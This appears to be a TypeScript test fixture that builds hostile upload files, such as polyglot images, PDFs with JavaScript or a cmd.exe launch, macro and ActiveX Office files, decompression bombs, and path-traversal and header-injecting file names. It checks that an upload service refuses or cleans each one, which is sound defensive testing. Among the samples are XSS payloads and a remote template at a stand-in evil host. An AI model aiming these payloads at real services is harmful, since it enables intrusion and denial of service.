// Files that are sent to hurt the service, its readers, or the person who sends them: made here, none of them kept.
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { officeFile, officeParts, packedPdf, pdfOf } from '../support/media-files/documents';
import { gifOf, jpegOf, pngOf, webpOf } from '../support/media-files/pictures';
import { archiveOf, u32 } from '../support/workbooks/archive';

export interface Attack {
  file: string;
  bytes: () => Buffer | Promise<Buffer>;
  /** The code of the refusal; where there is none, the file is taken and what is served of it is harmless. */
  code?: string;
  /** Part of what the person reads. */
  words?: RegExp;
}

const latin = (text: string) => Buffer.from(text, 'latin1');
const u32be = (value: number) =>
  Buffer.from([value >>> 24, value >>> 16, value >>> 8, value].map((one) => one & 255));

/** One chunk of a PNG. */
const chunk = (type: string, data: Buffer) => {
  const typed = Buffer.concat([latin(type), data]);
  return Buffer.concat([u32be(data.length), typed, u32be(crc32(typed))]);
};

const pngStart = latin('\x89PNG\r\n\x1a\n');
const ihdr = (width: number, height: number, depth = 8, colour = 0) =>
  chunk('IHDR', Buffer.concat([u32be(width), u32be(height), Buffer.from([depth, colour, 0, 0, 0])]));

/** A grey PNG of zeros, which packs a thousandfold. */
const zeroPng = (width: number, height: number, chunks: readonly Buffer[] = []) =>
  Buffer.concat([
    pngStart,
    ihdr(width, height),
    ...chunks,
    chunk('IDAT', deflateSync(Buffer.alloc((width + 1) * height), { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);

/** Puts chunks behind the header of a PNG. */
const withChunks = (png: Buffer, ...chunks: Buffer[]) =>
  Buffer.concat([png.subarray(0, 33), ...chunks, png.subarray(33)]);

const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
const html = '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>';
const small = { width: 64, height: 48 };

const unsupported = 'upload.unsupported-type';
const unreadable = 'upload.unreadable';
const unsafe = 'upload.unsafe';

const refusedFiles: Record<string, Attack & { code: string }> = {
  'an SVG': { file: 'a.svg', bytes: () => latin(svg), code: unsupported, words: /SVG/ },
  'an SVG called PNG': { file: 'a.png', bytes: () => latin(svg), code: unsupported, words: /SVG/ },
  'an SVG behind a declaration and a remark': {
    file: 'a.png',
    bytes: () => latin(`\xef\xbb\xbf<?xml version="1.0"?>\n<!-- ${'x'.repeat(500)} -->\n${svg}`),
    code: unsupported,
    words: /SVG/,
  },
  'an SVG in UTF-16': {
    file: 'a.png',
    bytes: () => Buffer.from(`\ufeff${svg}`, 'utf16le'),
    code: unsupported,
    words: /SVG/,
  },
  'a page': { file: 'a.html', bytes: () => latin(html), code: unsupported, words: /网页/ },
  'a page called JPEG': { file: 'a.jpg', bytes: () => latin(html), code: unsupported, words: /网页/ },
  'a page behind the start of a PNG': {
    file: 'a.png',
    bytes: () => Buffer.concat([pngStart, latin(html)]),
    code: unreadable,
  },
  'a script behind the start of a GIF': {
    file: 'a.gif',
    bytes: () => latin('GIF89a/*\x00\x00*/=1;alert(document.cookie)//'),
    code: unreadable,
  },
  'a script': { file: 'a.js', bytes: () => latin('alert(1)'), code: unsupported },
  'a page behind a PDF': {
    file: 'a.pdf',
    bytes: () => Buffer.concat([pdfOf(), latin(html)]),
    code: unreadable,
  },
  'a page within a PDF': { file: 'a.pdf', bytes: () => pdfOf('', `% ${html}`), code: unsafe },
  'an archive within a PDF': {
    file: 'a.pdf',
    bytes: () => pdfOf('', `% ${officeFile('docx').toString('latin1')}`),
    code: unsafe,
  },
  'a PDF behind a page': {
    file: 'a.pdf',
    bytes: () => Buffer.concat([latin(html), pdfOf()]),
    code: unsupported,
  },
  'a PDF that broke off': { file: 'a.pdf', bytes: () => pdfOf().subarray(0, 120), code: unreadable },
  'a PDF with a script': {
    file: 'a.pdf',
    bytes: () => pdfOf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
    code: unsafe,
    words: /脚本/,
  },
  'a PDF with a script under another name': {
    file: 'a.pdf',
    bytes: () => pdfOf('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>'),
    code: unsafe,
  },
  'a PDF with a packed script': {
    file: 'a.pdf',
    bytes: () => packedPdf('5 0 << /S /JavaScript /JS (app.alert(1)) >>'),
    code: unsafe,
  },
  'a PDF that starts a program': {
    file: 'a.pdf',
    bytes: () => pdfOf('/OpenAction << /S /Launch /F (cmd.exe) >>'),
    code: unsafe,
  },
  'a PDF with a file in it': {
    file: 'a.pdf',
    bytes: () => pdfOf('/Names << /EmbeddedFiles 5 0 R >>'),
    code: unsafe,
  },
  'a PDF whose objects unpack to 100 MB': {
    file: 'a.pdf',
    bytes: () => packedPdf(' '.repeat(100 * 1024 * 1024)),
    code: unreadable,
    words: /太大/,
  },
  'a PNG of 400 megapixels': {
    file: 'bomb.png',
    bytes: () => zeroPng(20_000, 20_000),
    code: 'upload.too-many-pixels',
    words: /40000 万像素/,
  },
  'a PNG of 40 megapixels and one line': {
    file: 'a.png',
    bytes: () => zeroPng(8_000, 5_001),
    code: 'upload.too-many-pixels',
  },
  'a PNG that says it is 2 thousand million wide': {
    file: 'a.png',
    bytes: () =>
      Buffer.concat([
        pngStart,
        ihdr(2 ** 31 - 1, 2 ** 31 - 1),
        chunk('IDAT', deflateSync(Buffer.alloc(100))),
        chunk('IEND', Buffer.alloc(0)),
      ]),
    code: unreadable,
  },
  'a JPEG of 65500 by 65500 pixels': {
    file: 'a.jpg',
    // The size stands behind the marker FFC0, precision and length.
    bytes: async () => {
      const jpeg = Buffer.from(await jpegOf(small));
      const at = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
      jpeg.writeUInt16BE(65_500, at + 5);
      jpeg.writeUInt16BE(65_500, at + 7);
      return jpeg;
    },
    code: 'upload.too-many-pixels',
  },
  'a WebP that says it is 16383 by 16383': {
    file: 'a.webp',
    bytes: () => {
      // VP8X with a canvas of its own, and nothing on it.
      const body = Buffer.alloc(10);
      body.writeUIntLE(16_382, 4, 3);
      body.writeUIntLE(16_382, 7, 3);
      return Buffer.concat([latin('RIFF'), u32(22), latin('WEBPVP8X'), u32(10), body]);
    },
    code: unreadable,
  },
  'a JPEG that broke off': {
    file: 'a.jpg',
    bytes: async () => {
      const whole = await jpegOf({ width: 800, height: 600 });
      return whole.subarray(0, Math.floor(whole.length / 2));
    },
    code: unreadable,
    words: /没有传完/,
  },
  'a PNG that broke off': {
    file: 'a.png',
    bytes: async () => {
      const whole = await sharp({
        create: {
          width: 300,
          height: 300,
          channels: 3,
          noise: { type: 'gaussian', mean: 128, sigma: 30 },
          background: '#000',
        },
      })
        .png()
        .toBuffer();
      return whole.subarray(0, Math.floor(whole.length / 2));
    },
    code: unreadable,
  },
  'a WebP that broke off': {
    file: 'a.webp',
    bytes: async () => {
      const whole = await sharp({
        create: {
          width: 300,
          height: 300,
          channels: 3,
          noise: { type: 'gaussian', mean: 128, sigma: 30 },
          background: '#000',
        },
      })
        .webp()
        .toBuffer();
      return whole.subarray(0, Math.floor(whole.length / 2));
    },
    code: unreadable,
  },
  'nothing but the start of a JPEG': {
    file: 'a.jpg',
    bytes: () => Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
    code: unreadable,
  },
  'no bytes at all': { file: 'a.png', bytes: () => Buffer.alloc(0), code: unreadable, words: /空/ },
  'one byte more than 10 MB': {
    file: 'a.png',
    bytes: async () => Buffer.concat([await pngOf(small), Buffer.alloc(10 * 1024 * 1024)]),
    code: 'upload.too-large',
    words: /最多 10 MB/,
  },
  'a TIFF': {
    file: 'a.tiff',
    bytes: () =>
      sharp({ create: { ...small, channels: 3, background: '#fff' } })
        .tiff()
        .toBuffer(),
    code: unsupported,
    words: /TIFF/,
  },
  'a TIFF called JPEG': {
    file: 'a.jpg',
    bytes: () =>
      sharp({ create: { ...small, channels: 3, background: '#fff' } })
        .tiff()
        .toBuffer(),
    code: unsupported,
    words: /TIFF/,
  },
  'an icon': {
    file: 'a.ico',
    bytes: () => latin('\x00\x00\x01\x00\x01\x00\x10\x10'),
    code: unsupported,
    words: /图标/,
  },
  'a BMP': {
    file: 'a.bmp',
    bytes: () => latin('BM\x46\x00\x00\x00\x00\x00'),
    code: unsupported,
    words: /BMP/,
  },
  'an AVIF': {
    file: 'a.avif',
    bytes: () =>
      sharp({ create: { ...small, channels: 3, background: '#fff' } })
        .avif()
        .toBuffer(),
    code: unsupported,
    words: /AVIF/,
  },
  'a HEIC': {
    file: 'a.heic',
    bytes: () => latin('\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic'),
    code: unsupported,
    words: /HEIC.*JPEG/,
  },
  'a program of Windows': {
    file: 'a.exe',
    bytes: () => latin(`MZ\x90\x00${'\x00'.repeat(200)}`),
    code: unsupported,
    words: /程序/,
  },
  'a program of Linux called PDF': {
    file: 'a.pdf',
    bytes: () => latin(`\x7fELF${'\x00'.repeat(200)}`),
    code: unsupported,
    words: /程序/,
  },
  'a film': {
    file: 'a.mp4',
    bytes: () => latin('\x00\x00\x00\x20ftypisom\x00\x00\x02\x00'),
    code: unsupported,
    words: /视频/,
  },
  'an old document of Word': {
    file: 'a.doc',
    bytes: () => latin(`\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${'\x00'.repeat(512)}`),
    code: unsupported,
    words: /docx/,
  },
  'an archive': {
    file: 'a.zip',
    bytes: () => archiveOf([{ name: 'a.txt', content: 'a' }]),
    code: unsupported,
    words: /压缩包/,
  },
  'an archive called Word': {
    file: 'a.docx',
    bytes: () => archiveOf([{ name: 'a.txt', content: 'a' }]),
    code: unsupported,
  },
  'a program for Java': {
    file: 'a.docx',
    bytes: () =>
      archiveOf([
        { name: 'META-INF/MANIFEST.MF', content: 'Main-Class: A' },
        { name: 'A.class', content: 'x' },
      ]),
    code: unsupported,
  },
  'a document with macros': {
    file: 'a.docm',
    bytes: () => officeFile('docx', [{ name: 'word/vbaProject.bin', content: Buffer.alloc(100, 1) }]),
    code: unsafe,
    words: /宏/,
  },
  'a document with macros by its types': {
    file: 'a.docx',
    bytes: () =>
      archiveOf(
        officeParts('docx').map((part) =>
          part.name === '[Content_Types].xml'
            ? {
                ...part,
                content: String(part.content).replace(
                  'openxmlformats-officedocument.wordprocessingml.document.main',
                  'ms-word.document.macroEnabled.main',
                ),
              }
            : part,
        ),
      ),
    code: unsafe,
  },
  'a workbook with ActiveX': {
    file: 'a.xlsx',
    bytes: () => officeFile('xlsx', [{ name: 'xl/activeX/activeX1.bin', content: 'x' }]),
    code: unsafe,
  },
  'a document with a program in it': {
    file: 'a.docx',
    bytes: () => officeFile('docx', [{ name: 'word/embeddings/setup.exe', content: 'MZ' }]),
    code: unsafe,
  },
  'a document with a template from elsewhere': {
    file: 'a.docx',
    bytes: () =>
      officeFile('docx', [
        {
          name: 'word/_rels/settings.xml.rels',
          content:
            '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>',
        },
      ]),
    code: unsafe,
    words: /模板/,
  },
  'a document with a part of 1 GB': {
    file: 'a.docx',
    bytes: () =>
      officeFile('docx', [
        { name: 'word/media/a.xml', content: Buffer.alloc(2 * 1024 * 1024), said: { unpacked: 1024 ** 3 } },
      ]),
    code: unreadable,
  },
  'a document that unpacks a thousandfold': {
    file: 'a.docx',
    bytes: () =>
      officeFile(
        'docx',
        Array.from({ length: 5 }, (_, i) => ({
          name: `word/${i}.xml`,
          content: Buffer.alloc(30 * 1024 * 1024),
        })),
      ),
    code: unreadable,
    words: /太大/,
  },
  'a document whose names lead out of it': {
    file: 'a.docx',
    bytes: () => officeFile('docx', [{ name: '../../../etc/passwd', content: 'x' }]),
    code: unreadable,
  },
  'a document with a password': {
    file: 'a.docx',
    bytes: () => officeFile('docx', [{ name: 'word/a.xml', content: 'x', flags: 1 }]),
    code: unreadable,
  },
  'a document with something behind it': {
    file: 'a.docx',
    bytes: () => Buffer.concat([officeFile('docx'), latin(html)]),
    code: unreadable,
  },
  'a document with a page as its remark': {
    file: 'a.docx',
    bytes: () => archiveOf(officeParts('docx'), { comment: latin(html) }),
    code: unreadable,
  },
  'a document with two of its main part': {
    file: 'a.docx',
    bytes: () => officeFile('docx', [{ name: 'word/document.xml', content: '<other/>' }]),
    code: unreadable,
  },
};

const cleanedFiles: Record<string, Attack> = {
  'an archive behind a JPEG': {
    file: 'a.jpg',
    bytes: async () => Buffer.concat([await jpegOf(small), officeFile('docx')]),
  },
  'a page behind a PNG': {
    file: 'a.png',
    bytes: async () => Buffer.concat([await pngOf(small), latin(html)]),
  },
  'a page in a remark of a GIF': {
    file: 'a.gif',
    bytes: async () => {
      const gif = await gifOf(small);
      const remark = Buffer.concat([Buffer.from([0x21, 0xfe, html.length]), latin(html), Buffer.from([0])]);
      return Buffer.concat([gif.subarray(0, gif.length - 1), remark, gif.subarray(gif.length - 1)]);
    },
  },
  'a page in a text chunk of a PNG': {
    file: 'a.png',
    bytes: async () => withChunks(await pngOf(small), chunk('tEXt', latin(`Comment\x00${html}`))),
  },
  'a text chunk of a PNG that unpacks to 50 MB': {
    file: 'a.png',
    bytes: async () =>
      withChunks(
        await pngOf(small),
        chunk(
          'zTXt',
          Buffer.concat([latin('Comment\x00\x00'), deflateSync(Buffer.alloc(50 * 1024 * 1024, 97))]),
        ),
        chunk(
          'iTXt',
          Buffer.concat([latin('XML\x00\x01\x00\x00\x00'), deflateSync(Buffer.alloc(50 * 1024 * 1024, 97))]),
        ),
      ),
  },
  'a picture under a wrong ending': { file: 'a.pdf', bytes: () => jpegOf(small) },
  'a picture of 40 megapixels': { file: 'a.png', bytes: () => zeroPng(8_000, 5_000) },
  'a GIF whose screen has 4 thousand million pixels': {
    file: 'a.gif',
    bytes: async () => {
      const gif = Buffer.from(await gifOf(small));
      gif.writeUInt16LE(65_535, 6);
      gif.writeUInt16LE(65_535, 8);
      return gif;
    },
  },
  'an animated WebP': {
    file: 'a.webp',
    bytes: async () => {
      const frames = await Promise.all(
        ['#f00', '#0f0', '#00f'].map((background) =>
          sharp({ create: { ...small, channels: 3, background } })
            .png()
            .toBuffer(),
        ),
      );
      return sharp(frames, { join: { animated: true } })
        .webp({ loop: 0, delay: 100 })
        .toBuffer();
    },
  },
  'an animated GIF of 500 frames': {
    file: 'a.gif',
    bytes: async () => {
      const frames = await Promise.all(
        Array.from({ length: 500 }, (_, i) =>
          sharp({ create: { ...small, channels: 3, background: { r: i % 256, g: 0, b: 0 } } })
            .png()
            .toBuffer(),
        ),
      );
      return sharp(frames, { join: { animated: true }, limitInputPixels: false })
        .gif()
        .toBuffer();
    },
  },
  'an animated PNG': {
    file: 'a.png',
    bytes: async () => withChunks(await pngOf(small), chunk('acTL', Buffer.concat([u32be(9_999), u32be(0)]))),
  },
  'a CMYK JPEG': {
    file: 'a.jpg',
    bytes: () =>
      sharp({ create: { ...small, channels: 3, background: '#1f7a5c' } })
        .toColourspace('cmyk')
        .jpeg()
        .toBuffer(),
  },
  'a PNG of 16 bits': {
    file: 'a.png',
    bytes: () =>
      sharp({ create: { ...small, channels: 3, background: '#1f7a5c' } })
        .toColourspace('rgb16')
        .png()
        .toBuffer(),
  },
  'an interlaced PNG of 16 bits and 25 megapixels': {
    file: 'a.png',
    bytes: () =>
      sharp({ create: { width: 5_000, height: 5_000, channels: 3, background: '#1f7a5c' } })
        .toColourspace('rgb16')
        .png({ progressive: true })
        .toBuffer(),
  },
  'a progressive JPEG of 39 megapixels': {
    file: 'a.jpg',
    bytes: () =>
      sharp({ create: { width: 7_000, height: 5_600, channels: 3, background: '#1f7a5c' } })
        .jpeg({ progressive: true, quality: 40, chromaSubsampling: '4:4:4' })
        .toBuffer(),
  },
  'a picture 1 pixel wide and 30000 high': {
    file: 'a.png',
    bytes: () => pngOf({ width: 1, height: 30_000 }),
  },
  'a grey picture': { file: 'a.webp', bytes: () => webpOf({ width: 1, height: 1 }) },
  'a name with a null': { file: 'a\u0000.html.png', bytes: () => pngOf(small) },
  'a name of 4 KB': { file: `${'长'.repeat(1_300)}.png`, bytes: () => pngOf(small) },
  'a name that leads elsewhere': { file: '../../../../etc/cron.d/a.png', bytes: () => pngOf(small) },
  'a name with markup': { file: '<img src=x onerror=alert(1)>.pdf', bytes: () => pdfOf() },
  'a name that breaks a header': { file: 'a";filename="b.html\r\nSet-Cookie: a=b.pdf', bytes: () => pdfOf() },
  'a name written backwards': { file: '岗位\u202efdp.exe', bytes: () => pdfOf() },
};

/** At least forty of each kind of thing that was ever tried, by what it is. */
export const attacks: Readonly<Record<string, Attack>> = { ...refusedFiles, ...cleanedFiles };
export const refused = Object.entries(refusedFiles);
export const cleaned = Object.entries(cleanedFiles);
